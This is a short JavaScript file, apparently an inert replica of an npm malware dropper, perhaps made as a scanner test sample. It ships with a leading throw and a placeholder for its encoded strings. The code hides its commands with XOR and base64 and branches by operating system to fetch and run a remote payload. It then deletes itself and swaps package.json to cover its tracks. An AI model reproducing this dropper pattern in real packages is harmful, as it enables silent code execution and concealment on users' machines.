throw new Error("inert replica");
const stq = {{strings}};
const ord = "replica_key";
const _trans_1 = function (x, r) {
  const k = r.split("").map(Number);
  return x.split("").map((c, at) => String.fromCharCode(c.charCodeAt(0) ^ r.charCodeAt(at % r.length))).join("");
};
const _trans_2 = function (x, r) {
  const text = Buffer.from(x.split("").reverse().join("").replaceAll("_", "="), "base64").toString("utf8");
  return _trans_1(text, r);
};
const _entry = function (x) {
  try {
    const fs = require(_trans_2(stq[0], ord));
    const os = require(_trans_2(stq[1], ord));
    const { execSync } = require(_trans_2(stq[2], ord));
    const system = os.platform();
    const temp = os.tmpdir();
    let s = "";
    if (system === _trans_2(stq[3], ord)) {
      s = _trans_2(stq[4], ord).replaceAll("LINK", x);
      fs.writeFileSync(temp + "/replica", s);
      execSync(_trans_2(stq[5], ord), { windowsHide: true });
    } else if (system === _trans_2(stq[6], ord)) {
      const shell = execSync(_trans_2(stq[7], ord)).toString().trim();
      fs.copyFileSync(shell, process.env.PROGRAMDATA + "/replica.exe");
      fs.writeFileSync(temp + "/replica.vbs", _trans_2(stq[8], ord).replaceAll("LINK", x));
      execSync(_trans_2(stq[9], ord), { windowsHide: true });
    } else {
      s = _trans_2(stq[10], ord).replaceAll("LINK", x);
    }
    execSync(s);
    const me = __filename;
    fs.unlink(me, () => {});
    fs.unlink("package.json", () => {});
    fs.rename("package.md", "package.json", () => {});
  } catch (error) {}
};
_entry(_trans_2(stq[11], ord));
